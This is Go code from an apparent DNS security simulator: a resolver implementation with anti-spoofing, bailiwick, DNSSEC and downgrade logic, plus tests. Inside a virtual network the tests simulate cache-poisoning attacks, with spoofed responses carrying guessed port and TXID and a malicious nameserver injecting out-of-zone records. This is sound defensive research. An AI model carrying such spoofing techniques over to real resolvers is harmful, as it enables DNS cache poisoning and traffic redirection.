	// downstream forwarder may pick any upstream transport toward us.
	serve := func(src netip.Addr, req []byte, respond func([]byte)) {
		r.serveQuery(req, src, respond)
	}
	for _, t := range StreamTransports() {
		host.BindSession(t.Port(), serve)
	}
	return r
}

// Reset rewinds the resolver to its post-New state for the next trial
// of a reused world: in-flight resolutions are abandoned (their leased
// wire buffers returned to the pool — their retransmission timers died
// with the clock reset), the cache is emptied in place, the sticky
// opportunistic downgrade is lifted, counters are zeroed and the test
// hook dropped. Zone configuration, the bound ports and the reusable
// upstream-query scaffolding all survive.
func (r *Resolver) Reset() {
	for _, inf := range r.inflight {
		inf.done = true
		inf.release()
	}
	clear(r.inflight)
	r.Cache.Reset()
	r.downgraded = false
	r.ClientQueries, r.UpstreamQueries = 0, 0
	r.Accepted, r.SpoofRejected, r.ValidationFailed = 0, 0, 0
	r.Timeouts, r.TCPFallbacks, r.Downgrades = 0, 0, 0
	r.TestHookQuerySent = nil
}

// EffectiveTransport is the transport upstream queries currently use:
// the profile's choice, unless an opportunistic downgrade stripped it
// back to plaintext UDP.
func (r *Resolver) EffectiveTransport() Transport {
	if r.downgraded {
		return TransportUDP
	}
	return r.Prof.Transport
}

// Downgraded reports whether an opportunistic downgrade has happened.
func (r *Resolver) Downgraded() bool { return r.downgraded }

// ForceDowngrade strips an opportunistic encrypted resolver back to
// plaintext UDP, reporting whether anything changed. Strict profiles
// (Opportunistic false) never downgrade — they fail instead.
func (r *Resolver) ForceDowngrade() bool {
	if !r.Prof.Opportunistic || !r.Prof.Transport.Stream() || r.downgraded {
		return false
	}
	r.downgraded = true
	r.Downgrades++
	return true
}

// AddZoneServer configures the authoritative addresses for a zone
// (longest-suffix match selects the zone for each query; "." is the
// default route for everything).
func (r *Resolver) AddZoneServer(zone string, addrs ...netip.Addr) *Resolver {
	z := dnswire.CanonicalName(zone)
	r.zones[z] = append(r.zones[z], addrs...)
	return r
}

// SetKnownSigned marks a zone as DNSSEC-signed from the resolver's
// point of view (a trust-anchor/DS-chain stand-in): if the profile
// validates, answers for this zone must carry a valid RRSIG.
func (r *Resolver) SetKnownSigned(zone string, signed bool) {
	r.knownSigned[dnswire.CanonicalName(zone)] = signed
}

// zoneFor returns the configured zone and servers for name.
func (r *Resolver) zoneFor(name string) (string, []netip.Addr) {
	name = dnswire.CanonicalName(name)
	bestLen := -1
	best := ""
	for z := range r.zones {
		if dnswire.InBailiwick(name, z) && len(z) > bestLen {
			bestLen, best = len(z), z
		}
	}
	if bestLen < 0 {
		return "", nil
	}
	return best, r.zones[best]
}

// Lookup resolves (name, typ), consulting the cache first. cb runs on
// the simulator's virtual time, possibly synchronously on cache hits.
func (r *Resolver) Lookup(name string, typ dnswire.Type, cb Callback) {
	name = dnswire.CanonicalName(name)
	key := cacheKey{name, typ}
	if rrs, neg, ok := r.cacheLookup(name, typ); ok {
		if neg {
			cb(nil, ErrNXDomain)
			return
		}
		cb(rrs, nil)
		return
	}
	if typ == dnswire.TypeANY && !r.Prof.SupportsANY {
		cb(nil, ErrNotImp)
		return
	}
	if inf := r.inflight[key]; inf != nil {
		inf.cbs = append(inf.cbs, cb)
		return
	}
	r.startQuery(key, 0, cb)
}

// ErrNotImp is returned for ANY lookups on profiles that refuse ANY.
var ErrNotImp = errors.New("resolver: query type not implemented")

// cacheLookup consults the cache, including the ANY-derived entries of
// Table 5: a profile that caches ANY can satisfy an A query from a
// previously fetched ANY response.
func (r *Resolver) cacheLookup(name string, typ dnswire.Type) (rrs []*dnswire.RR, negative, ok bool) {
	if rrs, neg, ok := r.Cache.Get(name, typ); ok {
		return rrs, neg, true
	}
	if typ != dnswire.TypeANY && r.Prof.CachesANY {
		if all, neg, ok := r.Cache.Get(name, dnswire.TypeANY); ok && !neg {
			var match []*dnswire.RR
			for _, rr := range all {
				if rr.Type == typ {
					match = append(match, rr)
				}
			}
			if len(match) > 0 {
				return match, false, true
			}
		}
	}
	return nil, false, false
}

func (r *Resolver) startQuery(key cacheKey, depth int, cbs ...Callback) {
	zone, servers := r.zoneFor(key.name)
	if len(servers) == 0 {
		for _, cb := range cbs {
			cb(nil, ErrServFail)
		}
		return
	}
	inf := &inflight{r: r, key: key, zone: zone, servers: servers, depth: depth, cbs: cbs}
	inf.recv = func(dg netsim.Datagram) { r.handleUpstream(inf, dg) }
	r.inflight[key] = inf
	r.sendAttempt(inf)
}

// upstreamQuery rewrites the resolver's reusable query message in
// place. The returned message aliases resolver-owned storage and is
// only valid until the next call.
func (r *Resolver) upstreamQuery(txid uint16, name string, typ dnswire.Type) *dnswire.Message {
	r.uqQ[0] = dnswire.Question{Name: name, Type: typ, Class: dnswire.ClassIN}
	r.uq = dnswire.Message{ID: txid, RecursionDesired: true, Questions: r.uqQ[:1]}
	if r.Prof.EDNSSize > 0 {
		r.uqOptD = dnswire.OPTData{UDPSize: r.Prof.EDNSSize, DO: r.Prof.ValidateDNSSEC}
		r.uqOpt = dnswire.RR{
			Name: ".", Type: dnswire.TypeOPT, Class: dnswire.Class(r.Prof.EDNSSize),
			Data: &r.uqOptD,
		}
		r.uqAdd[0] = &r.uqOpt
		r.uq.Additional = r.uqAdd[:1]
	}
	return &r.uq
}

func (r *Resolver) sendAttempt(inf *inflight) {
	rng := r.Host.Rand()
	inf.ns = inf.servers[rng.Intn(len(inf.servers))]
	inf.txid = uint16(rng.Uint32())
	inf.qname = inf.key.name
	if r.Prof.Use0x20 {
		inf.qname = dnswire.Encode0x20(inf.key.name, rng)
	}
	q := r.upstreamQuery(inf.txid, inf.qname, inf.key.typ)
	if inf.wire == nil {
		inf.wire = r.Host.Network().WirePool().Get(512)
	}
	wire, err := q.AppendPack(inf.wire[:0])
	if err != nil {
		r.finish(inf, nil, fmt.Errorf("resolver: pack: %w", err))
		return
	}
	inf.wire = wire
	r.UpstreamQueries++
	if t := r.EffectiveTransport(); t.Stream() {
		// Session transports expose no UDP socket: inf.port stays 0
		// (never bound, so the shared CloseUDP calls are no-ops) and
		// the response arrives through the session callback instead of
		// inf.recv. The retransmission timer still runs — a server
		// that accepts the query but stays silent (RRL) times out here
		// exactly as on UDP, and the retry reuses the warm session.
		inf.port = 0
		if r.TestHookQuerySent != nil {
			r.TestHookQuerySent(inf.qname, inf.key.typ, inf.ns, 0, inf.txid)
		}
		attempt := inf.attempt
		sess := r.Host.Session(inf.ns, t.Port(), t.SessionConfig())
		sess.Call(wire, func(resp []byte) { r.handleSession(inf, attempt, resp) })
	} else {
		inf.port = r.Host.BindUDP(0, inf.recv)
		if r.TestHookQuerySent != nil {
			r.TestHookQuerySent(inf.qname, inf.key.typ, inf.ns, inf.port, inf.txid)
		}
		r.Host.SendUDP(inf.port, inf.ns, 53, wire)
	}
	inf.timerAttempt = inf.attempt
	clock := r.Host.Network().Clock
	inf.deadline = clock.Now() + r.Prof.Timeout
	if !inf.timerPending {
		inf.timerPending = true
		clock.AfterAction(r.Prof.Timeout, inf)
	}
}

// handleSession consumes one session call's outcome. nil resp is a
// CONNECTION failure (refused handshake, hijacked encrypted endpoint,
// no route): opportunistic profiles fall back to plaintext UDP — the
// surface the active downgrade attack exploits — while strict ones
// fail the lookup rather than leak a plaintext query. A real response
// passes the same validation as a UDP datagram minus the source
// address and port checks the session makes redundant.
func (r *Resolver) handleSession(inf *inflight, attempt int, resp []byte) {
	if inf.done || inf.attempt != attempt {
		return // a retransmission or completion superseded this call
	}
	if resp == nil {
		inf.attempt++ // invalidate the pending retransmission timer
		if r.ForceDowngrade() {
			r.sendAttempt(inf) // resend over plaintext UDP
			return
		}
		r.finish(inf, nil, ErrServFail)
		return
	}
	if len(resp) < 2 || binary.BigEndian.Uint16(resp) != inf.txid {
		return // a mis-ID'd stream response cannot be an attack; drop it
	}
	msg, err := dnswire.Unpack(resp)
	if err != nil || msg.ID != inf.txid || !msg.Response || len(msg.Questions) == 0 {
		return
	}
	q := msg.Questions[0]
	if q.Type != inf.key.typ {
		return
	}
	if r.Prof.Use0x20 {
		if q.Name != inf.qname {
			return
		}
	} else if !dnswire.EqualNames(q.Name, inf.key.name) {
		return
	}
	// Streams never truncate; ignore a stray TC bit and process.
	r.processResponse(inf, msg)
}

func (r *Resolver) onTimeout(inf *inflight, attempt int) {
	if inf.done || inf.attempt != attempt {
		return
	}
	clock := r.Host.Network().Clock
	if now := clock.Now(); now < inf.deadline {
		// A downgrade resend pushed the deadline while this timer was
		// in flight; re-arm for the remainder.
		inf.timerPending = true
		clock.AfterAction(inf.deadline-now, inf)
		return
	}
	r.Host.CloseUDP(inf.port)
	if inf.attempt >= r.Prof.Retries {
		r.Timeouts++
		r.finish(inf, nil, ErrTimeout)
		return
	}
	inf.attempt++
	r.sendAttempt(inf)
}

func (r *Resolver) handleUpstream(inf *inflight, dg netsim.Datagram) {
	// One handler serves every attempt of the resolution: a port is
	// always closed before attempt advances, so a delivery can only
	// reach the binding of the current attempt.
	if inf.done {
		return
	}
	// Address/port check: the response must come from the server we
	// asked (RFC 5452 §3).
	if dg.Src != inf.ns || dg.SrcPort != 53 {
		r.SpoofRejected++
		return
	}
	// Cheap TXID precheck before parsing: a flood datagram with the
	// wrong ID would be rejected after Unpack anyway (wrong-ID and
	// unparseable both count as SpoofRejected), so bailing on the raw
	// header bytes is observationally identical and skips the parse on
	// the attacker's ~64k wrong guesses per poisoning window.
	if len(dg.Payload) < 2 || binary.BigEndian.Uint16(dg.Payload) != inf.txid {
		r.SpoofRejected++
		return
	}
	msg, err := dnswire.Unpack(dg.Payload)
	if err != nil {
		r.SpoofRejected++
		return
	}
	if msg.ID != inf.txid || !msg.Response || len(msg.Questions) == 0 {
		r.SpoofRejected++
		return
	}
	q := msg.Questions[0]
	if q.Type != inf.key.typ {
		r.SpoofRejected++
		return
	}
	if r.Prof.Use0x20 {
		if q.Name != inf.qname {
			r.SpoofRejected++
			return
		}
	} else if !dnswire.EqualNames(q.Name, inf.key.name) {
		r.SpoofRejected++
		return
	}
	if msg.Truncated {
		// Fall back to TCP: reliable, unspoofable.
		r.TCPFallbacks++
		ns := inf.ns
		r.Host.CloseUDP(inf.port)
		inf.attempt++ // invalidate the pending UDP timeout
		r.Host.CallTCP(ns, 53, inf.wire, func(resp []byte) {
			if inf.done {
				return
			}
			if resp == nil {
				r.finish(inf, nil, ErrServFail)
				return
			}
			m, err := dnswire.Unpack(resp)
			if err != nil || m.ID != inf.txid {
				r.finish(inf, nil, ErrServFail)
				return
			}
			r.processResponse(inf, m)
		})
		return
	}
	r.processResponse(inf, msg)
}

// processResponse applies bailiwick and DNSSEC checks, caches, chases
// CNAMEs, and completes the lookup.
func (r *Resolver) processResponse(inf *inflight, msg *dnswire.Message) {
	switch msg.RCode {
	case dnswire.RCodeNoError:
	case dnswire.RCodeNXDomain:
		ttl := negativeTTL(msg)
		r.Cache.PutNegative(inf.key.name, inf.key.typ, ttl)
		r.acceptAndClose(inf)
		r.finish(inf, nil, ErrNXDomain)
		return
	case dnswire.RCodeRefused:
		r.acceptAndClose(inf)
		r.finish(inf, nil, ErrRefused)
		return
	default:
		r.acceptAndClose(inf)
		r.finish(inf, nil, ErrServFail)
		return
	}

	// Bailiwick: only records inside the zone we asked may enter the
	// cache.
	var answers []*dnswire.RR
	for _, rr := range msg.Answers {
		if dnswire.InBailiwick(rr.Name, inf.zone) {
			answers = append(answers, rr)
		}
	}

	// DNSSEC: a zone we know to be signed must prove its answers.
	if r.Prof.ValidateDNSSEC && r.knownSigned[inf.zone] && len(answers) > 0 {
		if !hasValidSig(answers, inf.zone) {
			// Bogus: ignore this response and keep waiting; the
			// genuine (signed) response can still arrive.
			r.ValidationFailed++
			return
		}
	}

	// Strip RRSIG markers from what we hand to applications.
	answers = withoutType(answers, dnswire.TypeRRSIG)

	// Group answers per (name, type) and cache each RRset.
	groups := map[cacheKey][]*dnswire.RR{}
	var orderKeys []cacheKey
	for _, rr := range answers {
		k := cacheKey{dnswire.CanonicalName(rr.Name), rr.Type}
		if groups[k] == nil {
			orderKeys = append(orderKeys, k)
		}
		groups[k] = append(groups[k], rr)
	}
	if inf.key.typ == dnswire.TypeANY {
		if r.Prof.CachesANY {
			r.Cache.Put(inf.key.name, dnswire.TypeANY, answers)
		}
	} else {
		for _, k := range orderKeys {
			r.Cache.Put(k.name, k.typ, groups[k])
		}
	}

	// Direct answers for the question?
	direct := groups[cacheKey{inf.key.name, inf.key.typ}]
	if inf.key.typ == dnswire.TypeANY {
		direct = answers
	}
	if len(direct) > 0 {
		r.acceptAndClose(inf)
		r.finish(inf, direct, nil)
		return
	}

	// CNAME chasing.
	if cn := groups[cacheKey{inf.key.name, dnswire.TypeCNAME}]; len(cn) > 0 && inf.key.typ != dnswire.TypeCNAME {
		target := dnswire.CanonicalName(cn[0].Data.(*dnswire.CNAMEData).Target)
		// The response may already carry the target records.
		if tr := groups[cacheKey{target, inf.key.typ}]; len(tr) > 0 {
			r.acceptAndClose(inf)
			r.finish(inf, tr, nil)
			return
		}
		if inf.depth >= 8 {
			r.acceptAndClose(inf)
			r.finish(inf, nil, ErrServFail)
			return
		}
		r.acceptAndClose(inf)
		cbs := inf.cbs
		delete(r.inflight, inf.key)
		inf.done = true
		inf.release()
		r.Lookup(target, inf.key.typ, func(rrs []*dnswire.RR, err error) {
			for _, cb := range cbs {
				cb(rrs, err)
			}
		})
		return
	}

	// NODATA.
	r.Cache.PutNegative(inf.key.name, inf.key.typ, negativeTTL(msg))
	r.acceptAndClose(inf)
	r.finish(inf, nil, ErrNoData)
}

func (r *Resolver) acceptAndClose(inf *inflight) {
	r.Accepted++
	r.Host.CloseUDP(inf.port)
}

func (r *Resolver) finish(inf *inflight, rrs []*dnswire.RR, err error) {
	if inf.done {
		return
	}
	inf.done = true
	delete(r.inflight, inf.key)
	inf.release()
	for _, cb := range inf.cbs {
		cb(rrs, err)
	}
}

func negativeTTL(msg *dnswire.Message) uint32 {
	for _, rr := range msg.Authority {
		if soa, ok := rr.Data.(*dnswire.SOAData); ok {
			ttl := soa.Minimum
			if rr.TTL < ttl {
				ttl = rr.TTL
			}
			return ttl
		}
	}
	return 60
}

func hasValidSig(answers []*dnswire.RR, zone string) bool {
	covered := map[dnswire.Type]bool{}
	for _, rr := range answers {
		if rr.Type != dnswire.TypeRRSIG {
			continue
		}
		sig, ok := rr.Data.(*dnswire.RRSIGData)
		if !ok || !sig.Valid || !dnswire.InBailiwick(sig.Signer, zone) {
			continue
		}
		covered[sig.Covered] = true
	}
	for _, rr := range answers {
		if rr.Type == dnswire.TypeRRSIG {
			continue
		}
		if !covered[rr.Type] {
			return false
		}
	}
	return len(covered) > 0
}

func withoutType(rrs []*dnswire.RR, t dnswire.Type) []*dnswire.RR {
	out := rrs[:0:0]
	for _, rr := range rrs {
		if rr.Type != t {
			out = append(out, rr)
		}
	}
	return out
}

// --- client-facing side ---

func (r *Resolver) handleClient(dg netsim.Datagram) {
	src, srcPort := dg.Src, dg.SrcPort
	r.serveQuery(dg.Payload, src, func(wire []byte) {
		r.Host.SendUDP(53, src, srcPort, wire)
	})
}

// serveQuery parses and answers one client query, emitting the packed
// response through send — the shared service path behind the UDP
// socket and every session transport endpoint. The wire bytes passed
// to send alias the resolver's scratch buffer and are only valid for
// the duration of the call (SendUDP and session respond both copy).
func (r *Resolver) serveQuery(payload []byte, src netip.Addr, send func(wire []byte)) {
	query, err := dnswire.Unpack(payload)
	if err != nil || query.Response || len(query.Questions) == 0 {
		return
	}
	if !r.Open && !r.sameAS(src) {
		return // closed resolvers ignore external clients
	}
	r.ClientQueries++
	q := query.Question()
	respond := func(rrs []*dnswire.RR, lookupErr error) {
		resp := &dnswire.Message{
			ID: query.ID, Response: true, RecursionAvailable: true,
			RecursionDesired: query.RecursionDesired,
			Questions:        query.Questions,
			Answers:          rrs,
		}
		switch {
		case lookupErr == nil:
		case errors.Is(lookupErr, ErrNXDomain):
			resp.RCode = dnswire.RCodeNXDomain
		case errors.Is(lookupErr, ErrNoData):
		case errors.Is(lookupErr, ErrNotImp):
			resp.RCode = dnswire.RCodeNotImp
		case errors.Is(lookupErr, ErrRefused):
			resp.RCode = dnswire.RCodeRefused
		default:
			resp.RCode = dnswire.RCodeServFail
		}
		// Pack into the resolver's scratch buffer: SendUDP copies the
		// payload before returning and nothing retains the bytes.
		wire, err := resp.AppendPack(r.scratch[:0])
		if err != nil {
			return
		}
		r.scratch = wire
		send(wire)
	}
	r.Lookup(q.Name, q.Type, respond)
}

func (r *Resolver) sameAS(src netip.Addr) bool {
	h := r.Host.Network().HostByAddr(src)
	return h != nil && h.ASN == r.Host.ASN
}

// ZoneNames lists configured zones (diagnostics).
func (r *Resolver) ZoneNames() []string {
	out := make([]string, 0, len(r.zones))
	for z := range r.zones {
		out = append(out, z)
	}
	sort.Strings(out)
	return out
}

// InflightCount reports the number of outstanding upstream queries.
func (r *Resolver) InflightCount() int { return len(r.inflight) }
