package resolver_test

import (
	"errors"
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func newS(t *testing.T, cfg scenario.Config) *scenario.S {
	t.Helper()
	return scenario.New(cfg)
}

func lookupSync(t *testing.T, s *scenario.S, name string, typ dnswire.Type) ([]*dnswire.RR, error) {
	t.Helper()
	var rrs []*dnswire.RR
	var err error
	done := false
	s.Resolver.Lookup(name, typ, func(r []*dnswire.RR, e error) { rrs, err, done = r, e, true })
	s.Run()
	if !done {
		t.Fatal("lookup never completed")
	}
	return rrs, err
}

func TestBasicResolution(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 1})
	rrs, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) != 1 || rrs[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("bad answer: %v", rrs)
	}
	if s.NS.Queries != 1 {
		t.Fatalf("NS saw %d queries, want 1", s.NS.Queries)
	}
}

func TestCachingAvoidsSecondQuery(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 1})
	if _, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA); err != nil {
		t.Fatal(err)
	}
	if _, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA); err != nil {
		t.Fatal(err)
	}
	if s.NS.Queries != 1 {
		t.Fatalf("cache miss: NS saw %d queries", s.NS.Queries)
	}
}

func TestTTLExpiryTriggersRequery(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 1})
	lookupSync(t, s, "www.vict.im.", dnswire.TypeA) // TTL 300
	s.Clock.RunUntil(s.Clock.Now() + 301*time.Second)
	lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if s.NS.Queries != 2 {
		t.Fatalf("NS saw %d queries, want 2 after TTL expiry", s.NS.Queries)
	}
}

func TestNXDomainNegativeCache(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 1})
	_, err := lookupSync(t, s, "nope.vict.im.", dnswire.TypeA)
	if !errors.Is(err, resolver.ErrNXDomain) {
		t.Fatalf("err = %v, want NXDOMAIN", err)
	}
	_, err = lookupSync(t, s, "nope.vict.im.", dnswire.TypeA)
	if !errors.Is(err, resolver.ErrNXDomain) {
		t.Fatalf("second err = %v", err)
	}
	if s.NS.Queries != 1 {
		t.Fatalf("negative answer not cached: NS saw %d queries", s.NS.Queries)
	}
}

func TestSpoofedResponseWrongTXIDRejected(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 2})
	var port, txid uint16
	s.Resolver.TestHookQuerySent = func(_ string, _ dnswire.Type, _ netip.Addr, p, x uint16) { port, txid = p, x }

	var rrs []*dnswire.RR
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(r []*dnswire.RR, e error) { rrs = r })
	// Let the query leave but intercept before the genuine response by
	// muting the server.
	s.NS.Cfg.RateLimit = true
	s.NS.Cfg.RateLimitQPS = 0
	s.Clock.RunFor(5 * time.Millisecond) // query on the wire, not yet delivered

	// Attacker spoofs a response with the right port but wrong TXID.
	spoof := &dnswire.Message{
		ID: txid + 1, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}},
		Answers:   []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)},
	}
	wire, _ := spoof.Pack()
	s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, port, wire)
	s.Clock.RunFor(50 * time.Millisecond)
	if s.Resolver.SpoofRejected != 1 {
		t.Fatalf("SpoofRejected = %d, want 1", s.Resolver.SpoofRejected)
	}
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache poisoned by wrong-TXID spoof")
	}
	// Correct TXID from the spoofed source IS accepted (this is why
	// TXID entropy matters).
	spoof.ID = txid
	wire, _ = spoof.Pack()
	s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, port, wire)
	s.Run()
	if !s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("correct-TXID spoof not accepted")
	}
	if rrs == nil || rrs[0].Data.(*dnswire.AData).Addr != scenario.AttackerIP {
		t.Fatalf("application got %v", rrs)
	}
}

func TestSpoofToWrongPortNeverReachesResolver(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 3})
	var port, txid uint16
	s.Resolver.TestHookQuerySent = func(_ string, _ dnswire.Type, _ netip.Addr, p, x uint16) { port, txid = p, x }
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
	s.NS.Cfg.RateLimit = true
	s.NS.Cfg.RateLimitQPS = 0
	s.Clock.RunFor(5 * time.Millisecond)

	spoof := &dnswire.Message{
		ID: txid, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}},
		Answers:   []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)},
	}
	wire, _ := spoof.Pack()
	wrongPort := port + 1
	s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, wrongPort, wire)
	s.Run()
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache poisoned via closed port")
	}
}

func Test0x20MismatchRejected(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.Use0x20 = true
	s := newS(t, scenario.Config{Seed: 4, Profile: prof})
	var port, txid uint16
	var qname string
	s.Resolver.TestHookQuerySent = func(n string, _ dnswire.Type, _ netip.Addr, p, x uint16) { qname, port, txid = n, p, x }
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func([]*dnswire.RR, error) {})
	s.NS.Cfg.RateLimit = true
	s.NS.Cfg.RateLimitQPS = 0
	s.Clock.RunFor(5 * time.Millisecond)

	// Attacker guesses port+txid but not the 0x20 case pattern.
	spoof := &dnswire.Message{
		ID: txid, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}},
		Answers:   []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)},
	}
	wire, _ := spoof.Pack()
	s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, port, wire)
	s.Clock.RunFor(50 * time.Millisecond)
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("0x20 did not stop the spoof")
	}
	if qname == "www.vict.im." {
		t.Skip("rng produced all-lowercase encoding; astronomically unlikely")
	}
	if s.Resolver.SpoofRejected == 0 {
		t.Fatal("spoof not counted")
	}
}

func TestBailiwickFiltersOutOfZoneRecords(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 5})
	// The attacker's own nameserver answers atk.example queries but
	// slips in a record for vict.im: it must not enter the cache.
	evil := dnswire.NewA("vict.im.", 300, scenario.AttackerIP)
	atkZone := dnssrv.NewZone("atk.example.")
	atkZone.Add(
		dnswire.NewSOA("atk.example.", 3600, "ns.atk.example.", "r.atk.example.", 1),
		dnswire.NewA("trigger.atk.example.", 60, scenario.AttackerIP),
	)
	// Rebuild the attacker NS with a poisoned response path: wrap
	// BuildResponse via a custom zone carrying the out-of-zone record.
	// Zone.Add panics on out-of-bailiwick names, so emulate a
	// malicious server with a raw UDP handler.
	s.AtkNSHost.CloseUDP(53)
	s.AtkNSHost.BindUDP(53, func(dg netsim.Datagram) {
		q, err := dnswire.Unpack(dg.Payload)
		if err != nil || q.Response {
			return
		}
		resp := &dnswire.Message{
			ID: q.ID, Response: true, Authoritative: true, Questions: q.Questions,
			Answers: []*dnswire.RR{dnswire.NewA(q.Question().Name, 60, scenario.AttackerIP), evil},
		}
		wire, _ := resp.Pack()
		s.AtkNSHost.SendUDP(53, dg.Src, dg.SrcPort, wire)
	})
	rrs, err := lookupSync(t, s, "trigger.atk.example.", dnswire.TypeA)
	if err != nil || len(rrs) == 0 {
		t.Fatalf("lookup failed: %v", err)
	}
	if s.Poisoned("vict.im.", dnswire.TypeA) {
		t.Fatal("out-of-bailiwick record entered the cache")
	}
	if _, _, ok := s.Resolver.Cache.Get("vict.im.", dnswire.TypeA); ok {
		t.Fatal("vict.im cached from atk.example response")
	}
}

func TestCNAMEChase(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 6})
	s.VictimZone.Add(dnswire.NewCNAME("alias.vict.im.", 300, "www.vict.im."))
	rrs, err := lookupSync(t, s, "alias.vict.im.", dnswire.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) != 1 || rrs[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("CNAME chase returned %v", rrs)
	}
	if s.NS.Queries != 2 {
		t.Fatalf("NS saw %d queries, want 2 (CNAME then A)", s.NS.Queries)
	}
}

func TestANYCachingPerProfile(t *testing.T) {
	for _, tc := range []struct {
		prof      resolver.Profile
		cached    bool
		supported bool
	}{
		{resolver.ProfileBIND, true, true},
		{resolver.ProfileUnbound, false, false},
		{resolver.ProfilePowerDNS, true, true},
		{resolver.ProfileSystemd, true, true},
		{resolver.ProfileDnsmasq, false, true},
	} {
		t.Run(tc.prof.Name, func(t *testing.T) {
			s := newS(t, scenario.Config{Seed: 7, Profile: tc.prof})
			var anyErr error
			s.Resolver.Lookup("vict.im.", dnswire.TypeANY, func(_ []*dnswire.RR, e error) { anyErr = e })
			s.Run()
			if !tc.supported {
				if !errors.Is(anyErr, resolver.ErrNotImp) {
					t.Fatalf("unsupporting profile returned %v", anyErr)
				}
				return
			}
			if anyErr != nil {
				t.Fatalf("ANY lookup failed: %v", anyErr)
			}
			before := s.NS.Queries
			rrs, err := lookupSync(t, s, "vict.im.", dnswire.TypeA)
			if err != nil || len(rrs) == 0 {
				t.Fatalf("A lookup failed: %v", err)
			}
			requeried := s.NS.Queries > before
			if tc.cached && requeried {
				t.Fatal("profile should answer A from cached ANY but re-queried")
			}
			if !tc.cached && !requeried {
				t.Fatal("profile should re-query but served from ANY cache")
			}
		})
	}
}

func TestTruncationFallsBackToTCP(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.EDNSSize = 512
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1500
	s := newS(t, scenario.Config{Seed: 8, Profile: prof, ServerCfg: cfg})
	rrs, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) == 0 {
		t.Fatal("no answers over TCP")
	}
	if s.Resolver.TCPFallbacks != 1 {
		t.Fatalf("TCPFallbacks = %d, want 1", s.Resolver.TCPFallbacks)
	}
	if s.NS.Truncated != 1 {
		t.Fatalf("NS.Truncated = %d, want 1", s.NS.Truncated)
	}
}

func TestMutedServerTimesOutAfterRetries(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.RateLimit = true
	cfg.RateLimitQPS = 0
	s := newS(t, scenario.Config{Seed: 9, ServerCfg: cfg})
	_, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if !errors.Is(err, resolver.ErrTimeout) {
		t.Fatalf("err = %v, want timeout", err)
	}
	if s.Resolver.UpstreamQueries != 3 {
		t.Fatalf("UpstreamQueries = %d, want 3 (1 + 2 retries)", s.Resolver.UpstreamQueries)
	}
	if s.Resolver.InflightCount() != 0 {
		t.Fatal("inflight leak after timeout")
	}
}

func TestDNSSECValidationBlocksUnsignedSpoof(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.ValidateDNSSEC = true
	s := newS(t, scenario.Config{Seed: 10, Profile: prof, SignVictimZone: true})
	var port, txid uint16
	s.Resolver.TestHookQuerySent = func(_ string, _ dnswire.Type, _ netip.Addr, p, x uint16) { port, txid = p, x }
	var got []*dnswire.RR
	var gotErr error
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(r []*dnswire.RR, e error) { got, gotErr = r, e })
	s.Clock.RunFor(5 * time.Millisecond)
	// Spoof with correct challenge values but no valid signature: must
	// be ignored, and the genuine signed response accepted afterwards.
	spoof := &dnswire.Message{
		ID: txid, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}},
		Answers:   []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)},
	}
	wire, _ := spoof.Pack()
	s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, port, wire)
	s.Run()
	if gotErr != nil {
		t.Fatalf("lookup failed: %v", gotErr)
	}
	if s.Resolver.ValidationFailed != 1 {
		t.Fatalf("ValidationFailed = %d, want 1", s.Resolver.ValidationFailed)
	}
	if len(got) == 0 || got[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("application got %v, want genuine answer", got)
	}
